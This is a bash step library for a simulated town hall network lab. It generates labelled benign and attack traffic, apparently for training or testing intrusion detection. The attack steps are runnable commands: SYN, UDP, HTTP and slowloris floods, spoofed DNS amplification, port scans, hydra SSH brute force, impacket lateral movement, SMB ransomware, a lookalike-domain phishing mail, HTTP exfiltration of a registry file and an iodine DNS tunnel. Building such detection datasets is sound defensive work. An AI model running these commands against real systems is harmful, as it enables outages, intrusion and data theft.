# Step library shared by all scenarios. Each step is bounded in count and time
# (timeout + counts) and records its ground truth with gt_add: addresses from
# lib.sh variables, start/end read from the clock around the step.
RD="$(run_dir)"; export HOME="$RD/home/root"; mkdir -p "$HOME"
IMPACKET_EX=/usr/share/doc/python3-impacket/examples
SSHOPT=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=5)
q() { "$@" >>"$RD/log/steps.log" 2>&1; }          # quiet, logged
qt() { local rc=0; "$@" >>"$RD/log/steps.log" 2>&1 || rc=$?; echo "[rc=$rc] $*" >>"$RD/log/steps.log"; return 0; } # tolerated
BENIGN_EXPECT="benign activity: no alert"

# ---------------------------------------------------------------- benign
benign_browse() { # ws pages
  local ws="$1" n="${2:-3}" ip; ip=$(eval echo \$IP_${ws^^}); step_begin
  local i p; for i in $(seq 1 "$n"); do
    for p in / index.html actualites.html demarches.html css/style.css img/blason.png contact.html; do
      qt nsc "$ws" timeout 10 curl -s -o /dev/null -A "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/128.0" "http://www.$DOMAIN/$p"
    done
    qt nsc "$ws" timeout 10 curl -sk -o /dev/null "https://www.$DOMAIN/img/mairie.jpg"
    qt nsc "$ws" timeout 10 wget -q -O /dev/null --no-check-certificate "https://www.$DOMAIN/espace-agent/login.html"
    sleep 0.3
  done
  step_end; gt_add benign web_browsing "$ip" "$IP_WEB $IP_DNS" "$T0" "$T1" "$BENIGN_EXPECT"
}
benign_login() { # ws: a legitimate agent logs in on the city's site (TLS)
  local ws="$1" ip; ip=$(eval echo \$IP_${ws^^}); step_begin
  qt nsc "$ws" timeout 10 curl -sk -o /dev/null "https://www.$DOMAIN/espace-agent/login.html"
  qt nsc "$ws" timeout 10 curl -sk -o /dev/null -d "user=m.dupont&password=Printemps2024" "https://www.$DOMAIN/espace-agent/login"
  step_end; gt_add benign web_login "$ip" "$IP_WEB" "$T0" "$T1" "$BENIGN_EXPECT"
}
benign_dns() { # ws
  local ws="$1" ip; ip=$(eval echo \$IP_${ws^^}); step_begin
  local n; for n in www.$DOMAIN mail.$DOMAIN fichiers.$DOMAIN partenaire-sig.fr backup.partenaire-sig.fr; do
    qt nsc "$ws" timeout 5 dig +tries=1 +time=2 "$n" A
  done
  qt nsc "$ws" timeout 5 dig +tries=1 +time=2 "$DOMAIN" MX
  qt nsc "$ws" timeout 5 dig +tries=1 +time=2 "$DOMAIN" TXT
  step_end; gt_add benign dns_lookups "$ip" "$IP_DNS" "$T0" "$T1" "$BENIGN_EXPECT"
}
benign_mail() { # mail sent (LAN -> postfix -> partner) and received (partner -> postfix)
  step_begin
  qt nsc ws1 timeout 20 swaks --server $IP_MAIL --from m.dupont@$DOMAIN --to agent@$DOMAIN \
     --header "Subject: Ordre du jour du conseil municipal" --body "Bonjour, voici l'ordre du jour de jeudi. Cordialement."
  qt nsc remote timeout 20 swaks --server $IP_MAIL --helo mail.partenaire-sig.fr --from contact@partenaire-sig.fr --to mairie@$DOMAIN \
     --header "Subject: Convention SIG 2024" --body "Bonjour, veuillez trouver la convention signee. Bien a vous."
  qt nsc ws2 timeout 20 swaks --server $IP_MAIL --from rh@$DOMAIN --to contact@partenaire-sig.fr \
     --header "Subject: Re: Convention SIG 2024" --body "Merci, bien recu."
  sleep 2   # let postfix relay to the partner
  step_end; gt_add benign mail "$IP_WS1 $IP_WS2 $IP_REMOTE" "$IP_MAIL" "$T0" "$T1" "$BENIGN_EXPECT"
}
benign_smb() { # ws: office work on the share with smbclient (open, edit, save, rename, delete)
  local ws="$1" ip; ip=$(eval echo \$IP_${ws^^}); step_begin
  local w="$RD/work-$ws"; mkdir -p "$w"
  qt nsc "$ws" timeout 30 smbclient //$IP_FS/Documents -U "$SMB_USER%$SMB_PASS" -m SMB3 -c "prompt OFF; ls; cd RH; ls; lcd $w; mget *.docx; cd ../Finances; ls"
  local f; f="$(ls "$w"/*.docx 2>/dev/null | head -1 || true)"
  if [ -n "$f" ]; then
    cp "$f" "$w/edit.docx"; printf 'modif %s\n' "$(date)" >> "$w/edit.docx"
    local b; b="$(basename "$f")"
    qt nsc "$ws" timeout 30 smbclient //$IP_FS/Documents -U "$SMB_USER%$SMB_PASS" -m SMB3 -c \
      "cd RH; lcd $w; put edit.docx \"~WRL0001.tmp\"; rename \"$b\" \"$b.bak\"; rename \"~WRL0001.tmp\" \"$b\"; del \"$b.bak\"; put edit.docx \"Note de service brouillon.docx\"; ls"
    qt nsc "$ws" timeout 30 smbclient //$IP_FS/Documents -U "$SMB_USER%$SMB_PASS" -m SMB3 -c "cd RH; del \"Note de service brouillon.docx\"; mkdir Archives; cd Archives; lcd $w; put edit.docx \"Note archivee.docx\""
  fi
  step_end; gt_add benign smb_office_work "$ip" "$IP_FS" "$T0" "$T1" "$BENIGN_EXPECT"
}
benign_ssh() { # admin sessions from ws3 to the ssh server
  step_begin
  local i; for i in 1 2; do
    qt nsc ws3 timeout 20 sshpass -p "$SSH_PASS" ssh "${SSHOPT[@]}" $SSH_USER@$IP_SSH "uptime; df -h /; ls -la; id; ps aux | head -5"
    sleep 0.5
  done
  step_end; gt_add benign ssh_admin "$IP_WS3" "$IP_SSH" "$T0" "$T1" "$BENIGN_EXPECT"
}
benign_backup() { # MB: nightly backup of the file server to the partner's offsite host (scp)
  local mb="${1:-20}"; local f="$RD/backup-fichiers.tar"
  tar -C "$RD" -cf "$f" share 2>/dev/null || true
  head -c $((mb * 1024 * 1024)) /dev/urandom >> "$f"
  step_begin
  qt nsc fs timeout 120 sshpass -p "$SSH_PASS" scp "${SSHOPT[@]}" "$f" $SSH_USER@$IP_REMOTE:backup.tar
  step_end; gt_add benign offsite_backup "$IP_FS" "$IP_REMOTE" "$T0" "$T1" "$BENIGN_EXPECT (large legitimate transfer, ${mb} MB scp to the offsite backup host)"
}

# ---------------------------------------------------------------- denial of service
dos_syn_flood() { # count [rate_us]
  local n="${1:-3000}" us="${2:-500}"; step_begin
  qt nsx atk timeout 30 hping3 -q -S --rand-source -p 80 -c "$n" -i u"$us" $IP_WEB
  step_end
  gt_add dos syn_flood "" "$IP_WEB" "$T0" "$T1" "SYN flood against $IP_WEB:80 from random spoofed sources ($n SYNs, ~$((1000000/us)) pps); victim answers SYN-ACKs that are never acknowledged" \
    '{"spoofed_sources": true, "real_origin": "'$IP_ATK'", "packets": '$n'}'
}
dos_udp_flood() { # count
  local n="${1:-3000}"; step_begin
  qt nsx atk2 timeout 30 hping3 -q --udp -p ++1024 -d 512 -c "$n" -i u500 $IP_WEB
  step_end
  gt_add dos udp_flood "$IP_ATK2" "$IP_WEB" "$T0" "$T1" "UDP flood from $IP_ATK2 to $IP_WEB ($n datagrams of 512 bytes to changing ports)" '{"packets": '$n'}'
}
dos_dns_amp() { # count
  local n="${1:-300}" qf="$RD/amp-query.bin"
  python3 - "$qf" <<'PY'
import struct, sys
name = b"".join(bytes([len(p)]) + p for p in b"cdn-assets.example.net".split(b".")) + b"\0"
q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 1) + name + struct.pack(">HH", 16, 1)   # TXT IN, RD
q += b"\0" + struct.pack(">HHIH", 41, 4096, 0, 0)                                           # EDNS0, 4096
open(sys.argv[1], "wb").write(q)
PY
  local len; len=$(stat -c %s "$qf"); step_begin
  qt nsx atk timeout 30 hping3 -q --udp -a $IP_WEB -s 40000 -k -p 53 -E "$qf" -d "$len" -c "$n" -i u5000 $IP_REFLECTOR
  sleep 1; step_end
  gt_add dos dns_amplification "$IP_REFLECTOR" "$IP_WEB" "$T0" "$T1" "DNS amplification: $n TXT queries (EDNS 4096) spoofed from $IP_WEB to open resolver $IP_REFLECTOR; large fragmented answers flood $IP_WEB" \
    '{"reflector": "'$IP_REFLECTOR'", "real_origin": "'$IP_ATK'", "spoofed_sources": true, "queries": '$n'}'
}
dos_http_flood() { # concurrency repetitions
  local c="${1:-20}" r="${2:-50}"; step_begin
  qt nsx atk2 timeout 60 siege -b -q -c "$c" -r "$r" --no-parser --log="$RD/log/siege.log" "http://$IP_WEB/index.html"
  step_end
  gt_add dos http_flood "$IP_ATK2" "$IP_WEB" "$T0" "$T1" "HTTP flood: $((c*r)) GET requests from $IP_ATK2 to $IP_WEB in a few seconds ($c concurrent connections)" '{"requests": '$((c*r))'}'
}
dos_slowloris() { # connections seconds
  local c="${1:-300}" s="${2:-20}"; step_begin
  qt nsx atk timeout $((s + 20)) slowhttptest -H -c "$c" -r 100 -i 5 -l "$s" -x 24 -p 3 -u "http://$IP_WEB/index.html"
  step_end
  gt_add dos slowloris "$IP_ATK" "$IP_WEB" "$T0" "$T1" "Slowloris: $c slow HTTP connections from $IP_ATK to $IP_WEB sending incomplete headers every 5 s for ${s} s" '{"connections": '$c'}'
}

# ---------------------------------------------------------------- intrusion
intr_nmap_syn() { # "targets" top-ports
  local t="$1" n="${2:-200}"; step_begin
  qt nsx atk timeout 90 nmap -sS -n -Pn -T4 --max-retries 1 --host-timeout 60s --top-ports "$n" $t
  step_end
  gt_add intrusion port_scan "$IP_ATK" "$t" "$T0" "$T1" "TCP SYN port scan from $IP_ATK of $t (top $n ports)" '{"scan_type": "syn"}'
}
intr_nmap_connect() { # internal recon from a compromised workstation
  step_begin
  qt nsx ws2 timeout 90 nmap -sT -n -T4 --max-retries 1 --host-timeout 30s -p 21,22,23,80,135,139,443,445,3389,5985 10.66.0.1-30
  step_end
  gt_add intrusion port_scan "$IP_WS2" "$IP_FS $IP_SSH $RTR_LAN" "$T0" "$T1" "TCP connect scan from workstation $IP_WS2 of 10.66.0.1-30 (10 ports): internal reconnaissance" '{"scan_type": "connect", "range": "10.66.0.1-30"}'
}
intr_nmap_udp() {
  step_begin
  qt nsx atk timeout 90 nmap -sU -n -Pn -T4 --max-retries 1 --host-timeout 60s --top-ports 30 $IP_DNS $IP_WEB
  step_end
  gt_add intrusion port_scan "$IP_ATK" "$IP_DNS $IP_WEB" "$T0" "$T1" "UDP port scan from $IP_ATK of $IP_DNS and $IP_WEB (top 30 UDP ports)" '{"scan_type": "udp"}'
}
intr_ssh_bruteforce() { # tries (the last one succeeds)
  local n="${1:-20}" wl="$RD/wordlist.txt"
  python3 - "$wl" "$n" "$SSH_PASS" <<'PY'
import sys
words = "123456 password azerty admin mairie mairie2024 Mairie123 soleil motdepasse qwerty Password1 bonjour marseille ville2024 Admin2024 123456789 chocolat Beffroi2024 printemps secret".split()
n = int(sys.argv[2]); open(sys.argv[1], "w").write("\n".join((words * 5)[:n - 1] + [sys.argv[3]]) + "\n")
PY
  step_begin
  ( cd "$RD" && qt nsx atk timeout 120 hydra -I -l $SSH_USER -P "$wl" -t 4 -f -o "$RD/log/hydra-found.txt" ssh://$IP_SSH )
  qt nsx atk timeout 20 sshpass -p "$SSH_PASS" ssh "${SSHOPT[@]}" $SSH_USER@$IP_SSH "id; uname -a; cat /etc/passwd | head -3"
  step_end
  gt_add intrusion ssh_bruteforce "$IP_ATK" "$IP_SSH" "$T0" "$T1" "SSH brute force from $IP_ATK against $IP_SSH (user $SSH_USER, $n passwords, the last succeeds, followed by an interactive login)" \
    '{"attempts": '$n', "success": true, "found": '"$(grep -q "password:" "$RD/log/hydra-found.txt" 2>/dev/null && echo true || echo false)"'}'
}
intr_smb_lateral() { # from compromised ws2 to the file server with stolen credentials
  step_begin
  qt nsx ws2 timeout 40 /usr/bin/python3 $IMPACKET_EX/psexec.py "MAIRIE/$SMB_USER:$SMB_PASS@$IP_FS" "cmd.exe /c whoami"
  qt nsx ws2 timeout 40 /usr/bin/python3 $IMPACKET_EX/smbexec.py "MAIRIE/$SMB_USER:$SMB_PASS@$IP_FS"  < /dev/null
  step_end
  gt_add intrusion smb_lateral "$IP_WS2" "$IP_FS" "$T0" "$T1" "Lateral movement over SMB from $IP_WS2 to $IP_FS with impacket psexec/smbexec: ADMIN\$ upload and svcctl service creation (CreateServiceW)" '{"tools": ["psexec.py", "smbexec.py"]}'
}

# ---------------------------------------------------------------- ransomware
ransom_smb() { # ws style dirs
  local ws="$1" style="$2" dirs="$3" ip; ip=$(eval echo \$IP_${ws^^}); step_begin
  qt nsx "$ws" timeout 150 /usr/bin/python3 "$LAB_DIR/tools/ransom_smb.py" $IP_FS $SMB_USER "$SMB_PASS" Documents "$style" "$dirs" "${RANSOM_MAX:-200}"
  step_end
  local n; n=$(find "$RD/share" -name '*.locked' | wc -l)
  gt_add ransomware smb_encryption "$ip" "$IP_FS" "$T0" "$T1" \
    "Ransomware over SMB from $ip on share \\\\$IP_FS\\Documents ($style): every file read, encrypted copy written as *.locked, original $( [ "$style" = copy-delete ] && echo deleted || echo overwritten then renamed ), README_DECRYPT.txt notes dropped in $dirs" \
    '{"style": "'$style'", "locked_files_on_share": '$n', "directories": "'"$dirs"'"}'
}

# ---------------------------------------------------------------- phishing
phish_mail() {
  local a="$RD/Bulletin_paie_novembre.pdf.exe"
  { printf 'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff'; head -c 60000 /dev/urandom; } > "$a"
  step_begin
  qt nsc atk timeout 30 swaks --server $IP_MAIL --helo mail.$LOOKALIKE --from "rh@$LOOKALIKE" --to "agent@$DOMAIN" \
     --header "From: Service RH Mairie <rh@$LOOKALIKE>" --header "Subject: Urgent : mise a jour de vos informations de paie" \
     --body "Bonjour,

Suite a un changement de prestataire, merci de confirmer vos identifiants avant vendredi :
https://$LOOKALIKE/espace-agent/login.html

Votre bulletin de paie est en piece jointe.
Service des ressources humaines" \
     --attach-type application/octet-stream --attach-name "$(basename "$a")" --attach @"$a"
  step_end
  gt_add phishing phishing_mail "$IP_ATK" "$IP_MAIL" "$T0" "$T1" \
    "Phishing mail from $IP_ATK through $IP_MAIL to agent@$DOMAIN: sender and link on lookalike domain $LOOKALIKE (of $DOMAIN), executable attachment $(basename "$a") (double extension)" \
    '{"lookalike": "'$LOOKALIKE'", "legit_domain": "'$DOMAIN'", "attachment": "'"$(basename "$a")"'", "recipient": "agent@'$DOMAIN'"}'
}
phish_click() { # ws: the victim resolves the lookalike and connects (TLS), then submits credentials
  local ws="${1:-ws1}" ip; ip=$(eval echo \$IP_${ws^^}); step_begin
  qt nsc "$ws" timeout 5 dig +tries=1 +time=2 "$LOOKALIKE" A
  qt nsc "$ws" timeout 10 curl -sk -o /dev/null -A "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/128.0" "https://$LOOKALIKE/espace-agent/login.html"
  qt nsc "$ws" timeout 10 curl -sk -o /dev/null -d "user=agent&password=$SMB_PASS" "https://$LOOKALIKE/espace-agent/login"
  qt nsc "$ws" timeout 10 curl -s -o /dev/null "http://$LOOKALIKE/img/blason.png"
  step_end
  gt_add phishing lookalike_domain "$IP_PHISH" "$ip" "$T0" "$T1" \
    "Workstation $ip resolves lookalike domain $LOOKALIKE (-> $IP_PHISH) via $IP_DNS and connects to it over TLS (SNI $LOOKALIKE) and HTTP, posting credentials" \
    '{"lookalike": "'$LOOKALIKE'", "legit_domain": "'$DOMAIN'", "server": "'$IP_PHISH'"}'
}

# ---------------------------------------------------------------- data theft
exfil_http() { # ws rows
  local ws="${1:-ws3}" rows="${2:-20000}" f="$RD/etat-civil-registre.csv" ip; ip=$(eval echo \$IP_${ws^^})
  /usr/bin/python3 "$LAB_DIR/tools/gen_content.py" registry "$f" "$rows"
  local sz; sz=$(stat -c %s "$f"); step_begin
  qt nsc "$ws" timeout 60 curl -s -o /dev/null -X POST -H "Content-Type: application/octet-stream" --data-binary @"$f" "http://depot-fichiers.net/upload/etat-civil-registre.csv"
  step_end
  gt_add exfiltration http_exfil "$ip" "$IP_DROP" "$T0" "$T1" \
    "Bulk exfiltration: $ip uploads the civil registry ($sz bytes) by HTTP POST to $IP_DROP (depot-fichiers.net) outside the city's network" \
    '{"bytes": '$sz', "url": "http://depot-fichiers.net/upload/etat-civil-registre.csv"}'
}
exfil_dns_tunnel() { # ws kbytes
  local ws="${1:-ws3}" kb="${2:-64}" ip; ip=$(eval echo \$IP_${ws^^})
  [ -c /dev/net/tun ] || { log "exfil_dns_tunnel: /dev/net/tun missing, skipped"; return 0; }
  local f="$RD/etat-civil-extrait.csv"; /usr/bin/python3 "$LAB_DIR/tools/gen_content.py" registry "$f" $((kb * 1024 / 100))
  step_begin
  # iodine client through the city's resolver (-r: never bypass DNS with raw UDP)
  setsid bash -c 'source "$0"; nsc "$@"' "$LAB_DIR/lib.sh" $ws timeout 150 iodine -f -r -P labtunnel $IP_DNS $TUNNEL_DOMAIN </dev/null >"$RD/log/iodine.log" 2>&1 &
  local ipid=$! i
  for i in $(seq 1 90); do grep -q "Connection setup complete" "$RD/log/iodine.log" 2>/dev/null && break; sleep 0.5; done
  if grep -q "Connection setup complete" "$RD/log/iodine.log" 2>/dev/null; then
    setsid bash -c 'source "$0"; nsc drop timeout 150 /usr/bin/python3 "$@"' "$LAB_DIR/lib.sh" "$LAB_DIR/tools/upload_server.py" 172.30.66.1 8080 "$RD/log/tunnel-received.log" </dev/null >"$RD/log/tunnel-server.log" 2>&1 &
    local spid=$!
    for i in $(seq 1 50); do nsx drop ss -lnt | grep -q "172.30.66.1:8080 " && break; sleep 0.2; done
    qt nsx "$ws" timeout 120 curl -s -o /dev/null --retry 3 --retry-connrefused --data-binary @"$f" http://172.30.66.1:8080/x
    ns_kill drop "upload_server.py 172.30.66.1"
  else
    log "exfil_dns_tunnel: tunnel did not come up (see $RD/log/iodine.log)"
  fi
  ns_kill "$ws" "iodine -f"; sleep 0.5
  step_end
  gt_add exfiltration dns_tunnel "$ip" "$IP_DNS $IP_REFLECTOR $IP_DROP" "$T0" "$T1" \
    "DNS tunnel (iodine) from $ip to $TUNNEL_DOMAIN (server $IP_DROP) through resolvers $IP_DNS and $IP_REFLECTOR: long high-entropy query names under $TUNNEL_DOMAIN, NULL/TXT/CNAME answers, $(stat -c %s "$f") bytes of the civil registry carried" \
    '{"tunnel_domain": "'$TUNNEL_DOMAIN'", "tool": "iodine", "bytes": '"$(stat -c %s "$f")"', "received": '"$(cat "$RD/log/tunnel-received.log" 2>/dev/null | wc -l)"'}'
}
